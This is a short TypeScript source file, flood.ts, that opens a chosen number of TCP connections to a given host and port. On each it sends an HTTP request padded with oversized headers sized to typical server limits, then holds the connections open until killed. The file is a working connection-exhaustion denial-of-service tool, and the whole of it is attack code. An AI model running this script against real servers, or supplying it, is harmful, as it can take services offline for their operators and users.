/**
 * Opens many connections, says the same on each, and keeps them until it is killed: `flood.ts HOST PORT COUNT`. What
 * it says is a request with about as many headers as are taken.
 */

import { connect } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';

const [host = '', port = '', count = ''] = process.argv.slice(2);
const HEADERS = 8;
const HEADER_BYTES = 7_800;
const AT_ONCE = 100;

const headers = Array.from({ length: HEADERS }, (_, i) => `x-ballast-${i}: ${'x'.repeat(HEADER_BYTES)}\r\n`);
const request = Buffer.from(`GET / HTTP/1.1\r\nhost: ${host}\r\n${headers.join('')}\r\n`);

for (let i = 0; i < Number(count); i++) {
  const socket = connect(Number(port), host, () => socket.write(request));
  socket.on('error', () => {});
  socket.resume();
  // Bursts of a size that every backlog takes.
  if (i % AT_ONCE === 0) await sleep(10);
}
